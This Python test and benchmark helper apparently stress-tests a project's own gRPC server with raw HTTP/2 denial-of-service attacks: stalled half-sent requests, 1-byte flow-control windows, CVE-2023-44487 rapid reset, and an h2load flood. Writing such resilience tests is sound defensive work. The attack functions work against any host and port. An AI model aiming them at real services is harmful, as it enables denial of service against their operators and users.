"""Raw HTTP/2 attackers on a gRPC port, for tests/grpc/test_abuse.py and bench/abuse.py: half-sent
requests, 1-byte windows, rapid reset (CVE-2023-44487) and an h2load flood (nghttp2-client)."""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import subprocess
import time
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.settings
import trio

from metacollector.grpc.framing import encode_message
from metacollector.proto import metadata_pb2 as pb
from metacollector.subscriptions import FALCO_KINDS

WATCH = "/metadata.Metadata/Watch"


def h2_client(window: int = 65535) -> h2.connection.H2Connection:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.local_settings = h2.settings.Settings(
        client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
    )
    conn.initiate_connection()
    return conn


def request_headers(method: str = "POST") -> list[tuple[str, str]]:
    return [
        (":method", method),
        (":scheme", "http"),
        (":path", WATCH),
        (":authority", "abuse"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def selector(node: str) -> bytes:
    request = pb.Selector(nodeName=node, resourceKinds={k: "true" for k in FALCO_KINDS})
    return encode_message(request.SerializeToString())


class Raw:
    """One attacking connection: an h2 client over TCP, noting what the server said."""

    def __init__(self, tcp: trio.SocketStream, conn: h2.connection.H2Connection) -> None:
        self.tcp, self.h2 = tcp, conn
        self.goaway: int | None = None  # the GOAWAY error code received, if any
        self.closed = False  # the server closed (EOF on reading)
        self.broken = False  # writing failed (what was sent before may still be read)
        self.data_frames = 0
        self.data_bytes = 0

    @classmethod
    async def open(cls, host: str, port: int, window: int = 65535) -> Raw:
        conn = h2_client(window)
        tcp = await trio.open_tcp_stream(host, port)
        raw = cls(tcp, conn)
        await raw.flush()
        return raw

    async def flush(self) -> None:
        data = self.h2.data_to_send()
        if data and not self.broken:
            try:
                await self.tcp.send_all(data)
            except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
                self.broken = True

    async def read(self, timeout: float) -> list[h2.events.Event]:
        """One read (or none within ``timeout``); PINGs/SETTINGS answered by h2 on flush."""
        data = b""
        with trio.move_on_after(timeout):
            with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError, OSError):
                data = await self.tcp.receive_some(1 << 16)
            if not data:
                self.closed = True
        if not data:
            return []
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return []
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                self.goaway = int(e.error_code or 0)
            elif isinstance(e, h2.events.DataReceived):
                self.data_frames += 1
                self.data_bytes += len(e.data or b"")
        return events

    async def aclose(self) -> None:
        await trio.aclose_forcefully(self.tcp)


async def half_sent(
    host: str, port: int, *, connections: int = 4, streams: int = 40, hold: float = 5.0
) -> dict[str, Any]:
    """Each stream announces a 60 KB request message (under the 64 KiB limit) and sends all
    of it the windows allow, except its end, then holds the connection for ``hold`` seconds."""
    body = encode_message(b"y" * 60000)[:-100]
    out = {"bytes_sent": 0, "goaways": 0, "refused": 0}

    async def one() -> None:
        raw = await Raw.open(host, port)
        await raw.read(1.0)  # the server's SETTINGS
        sent: dict[int, int] = {}
        for _ in range(streams):
            sid = raw.h2.get_next_available_stream_id()
            raw.h2.send_headers(sid, request_headers())
            sent[sid] = 0
        deadline = trio.current_time() + hold
        while trio.current_time() < deadline and not raw.closed:
            for sid in sent:
                room = min(raw.h2.local_flow_control_window(sid), len(body) - sent[sid])
                for offset in range(0, room, 16384):
                    chunk = body[sent[sid] : sent[sid] + min(16384, room - offset)]
                    raw.h2.send_data(sid, chunk)
                    sent[sid] += len(chunk)
            await raw.flush()
            for e in await raw.read(0.2):
                if isinstance(e, h2.events.TrailersReceived | h2.events.ResponseReceived):
                    out["refused"] += 1
            await raw.flush()
        out["bytes_sent"] += sum(sent.values())
        out["goaways"] += raw.goaway is not None
        await raw.aclose()

    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(one)
    return out


async def one_byte_windows(
    host: str, port: int, node: str, *, clients: int = 3, seconds: float = 10.0
) -> dict[str, Any]:
    """Clients with a 1-byte initial window asking for a big view, each topping its stream and
    connection windows up by one byte per DATA frame received, or every millisecond."""
    out: dict[str, Any] = {"data_frames": 0, "data_bytes": 0, "updates": 0, "goaways": []}

    async def one() -> None:
        raw = await Raw.open(host, port, window=1)
        sid = raw.h2.get_next_available_stream_id()
        raw.h2.send_headers(sid, request_headers())
        raw.h2.send_data(sid, selector(node), end_stream=True)
        await raw.flush()
        deadline = trio.current_time() + seconds
        while trio.current_time() < deadline and not raw.closed and raw.goaway is None:
            events = await raw.read(0.001)
            if any(isinstance(e, h2.events.StreamEnded | h2.events.StreamReset) for e in events):
                break
            try:
                raw.h2.increment_flow_control_window(1, stream_id=sid)
                raw.h2.increment_flow_control_window(1)
            except h2.exceptions.ProtocolError:
                break
            out["updates"] += 2
            await raw.flush()
        out["data_frames"] += raw.data_frames
        out["data_bytes"] += raw.data_bytes
        out["goaways"].append(raw.goaway)
        await raw.aclose()

    async with trio.open_nursery() as nursery:
        for _ in range(clients):
            nursery.start_soon(one)
    return out


async def rapid_reset(host: str, port: int, *, streams: int = 20000) -> dict[str, Any]:
    """Open a stream with a whole request and reset it at once, ``streams`` times, in writes of
    100, reading what comes back; stops at the server's GOAWAY."""
    raw = await Raw.open(host, port)
    await raw.read(1.0)
    body = selector("node-0")
    sent = 0
    started = time.monotonic()
    while sent < streams and not raw.broken and not raw.closed and raw.goaway is None:
        for _ in range(100):
            sid = raw.h2.get_next_available_stream_id()
            raw.h2.send_headers(sid, request_headers())
            raw.h2.send_data(sid, body, end_stream=True)
            raw.h2.reset_stream(sid)
            sent += 1
        await raw.flush()
        await raw.read(0)
    with trio.move_on_after(2):
        while not raw.closed and raw.goaway is None:
            await raw.read(0.5)
    await raw.aclose()
    return {"streams_sent": sent, "goaway": raw.goaway, "seconds": time.monotonic() - started}


def nghttp2_tool(name: str) -> str | None:
    """``h2load``/``nghttp`` from Debian's nghttp2-client, installed when missing (as root)."""
    if shutil.which(name) is None and shutil.which("apt-get") and os.geteuid() == 0:
        subprocess.run(
            ["apt-get", "install", "-y", "-q", "nghttp2-client"], capture_output=True, timeout=300
        )
    return shutil.which(name)


async def h2load_flood(
    host: str, port: int, *, connections: int = 50, streams: int = 50, requests: int = 100000
) -> dict[str, Any]:
    """h2load: ``connections`` x ``streams`` concurrent GET requests (invalid for gRPC)."""
    h2load = nghttp2_tool("h2load")
    if h2load is None:
        return {"skipped": "h2load (nghttp2-client) not available"}
    started = time.monotonic()
    done = await trio.run_process(
        [
            h2load,
            "-n",
            str(requests),
            "-c",
            str(connections),
            "-m",
            str(streams),
            f"http://{host}:{port}{WATCH}",
        ],
        capture_stdout=True,
        capture_stderr=True,
        check=False,
    )
    text = done.stdout.decode(errors="replace")
    match = re.search(
        r"requests: (\d+) total, (\d+) started, (\d+) done, (\d+) succeeded, (\d+) failed", text
    )
    figures = (
        dict(
            zip(
                ["total", "started", "done", "succeeded", "failed"],
                map(int, match.groups()),
                strict=True,
            )
        )
        if match
        else {}
    )
    return {"seconds": round(time.monotonic() - started, 2), **figures}


ATTACKS = {
    "half_sent": lambda host, port, node, seconds: half_sent(host, port, hold=seconds),
    "one_byte": lambda host, port, node, seconds: one_byte_windows(
        host, port, node, seconds=seconds
    ),
    "rapid_reset": lambda host, port, node, seconds: rapid_reset(host, port),
    "h2load_flood": lambda host, port, node, seconds: h2load_flood(host, port),
}
